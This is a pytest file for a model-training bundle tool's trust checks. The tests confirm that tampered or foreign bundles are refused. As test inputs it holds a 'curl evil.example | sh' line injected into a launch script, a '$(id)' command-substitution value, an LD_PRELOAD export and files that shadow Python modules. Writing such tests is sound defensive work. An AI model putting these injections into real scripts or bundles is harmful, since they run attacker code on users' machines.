"""Trust: code that nobody here has seen does not run because somebody sent it."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from finetui.bundles import manifest, trust
from finetui.bundles.folder import Bundle
from finetui.core.errors import FinetuiError

pytestmark = pytest.mark.unit


@pytest.fixture
def foreign(bundle: Path, home: Path) -> Path:
    """A bundle that was locked by somebody else with the same finetui."""
    shutil.rmtree(home / "cache/locked")
    return bundle


def relist(bundle: Path) -> Bundle:
    """Make the manifest agree with what was changed, as an attacker would."""
    digests = manifest.scan(bundle, frozenset({manifest.NAME})).digests
    (bundle / manifest.NAME).write_text(manifest.render(digests))
    return Bundle.load(bundle)


def refusal(bundle: Bundle, trusted: str | None = None) -> str:
    with pytest.raises(FinetuiError) as error:
        trust.check_trust(bundle, trusted)
    assert error.value.exit_code == 3
    [problem] = error.value.problems
    assert bundle.id in (problem.next("en") or "") or problem.code == "bundles.other-id"
    return problem.code


def test_a_bundle_locked_here_runs(bundle: Path) -> None:
    trust.check_trust(Bundle.load(bundle))
    assert trust.is_ours(Bundle.load(bundle).id)


def test_a_foreign_bundle_with_the_installed_trainer_runs(foreign: Path) -> None:
    assert not trust.is_ours(Bundle.load(foreign).id)
    trust.check_trust(Bundle.load(foreign))


def test_a_bundle_of_a_listed_earlier_trainer_runs(
    foreign: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    digest = trust.installed_code()
    monkeypatch.setattr(trust, "installed_code", lambda: "0" * 64)
    assert refusal(Bundle.load(foreign)) == "bundles.untrusted"
    table = tmp_path / "known.toml"
    table.write_text(f'[digests]\n"0.1.0" = "{digest}"\n')
    monkeypatch.setattr(trust, "_KNOWN", table)
    trust.check_trust(Bundle.load(foreign))


def test_changed_code_needs_its_id_named(foreign: Path) -> None:
    with (foreign / "train/main.py").open("a") as stream:
        stream.write("import evil\n")
    changed = relist(foreign)
    assert refusal(changed) == "bundles.untrusted"
    assert refusal(changed, "f" * 64) == "bundles.other-id"
    trust.check_trust(changed, changed.id)


@pytest.mark.parametrize(
    "name",
    [
        "train/extra.py",
        "train/__pycache__/main.cpython-311.pyc",
        "torch.py",
        "json/__init__.py",
        "data/x.py",
        "env/x.so",
    ],
)
def test_a_file_that_python_might_import_needs_trust(foreign: Path, name: str) -> None:
    (foreign / name).parent.mkdir(exist_ok=True)
    (foreign / name).write_text("print('mine now')\n")
    assert refusal(relist(foreign)) == "bundles.untrusted"


@pytest.mark.parametrize(
    "edit",
    [
        lambda text: text.replace("# <<< lock\n", "curl evil.example | sh\n# <<< lock\n"),
        lambda text: text.replace('NAME="test"', 'NAME="$(id)"'),
        lambda text: text.replace("# <<< lock\n", 'export LD_PRELOAD="/tmp/x.so"\n# <<< lock\n'),
        lambda text: text + "id\n",
        lambda text: text.replace("# >>> lock\n", "").replace("# <<< lock\n", ""),
        lambda text: text + "# >>> lock\nid\n# <<< lock\n",
    ],
)
def test_a_launch_script_that_is_not_the_locks_needs_trust(foreign: Path, edit) -> None:
    script = foreign / "launch.sh"
    script.write_text(edit(script.read_text()))
    assert refusal(relist(foreign)) == "bundles.untrusted"


def test_a_model_with_code_of_its_own_needs_trust(foreign: Path) -> None:
    lock = foreign / "lock.json"
    lock.write_text(lock.read_text().replace('"config.json"', '"modeling_own.py"'))
    assert refusal(relist(foreign)) == "bundles.model-code"


def test_an_id_that_is_no_digest_is_never_ours(home: Path) -> None:
    assert not trust.is_ours("../../anything")
    assert not trust.is_ours("")
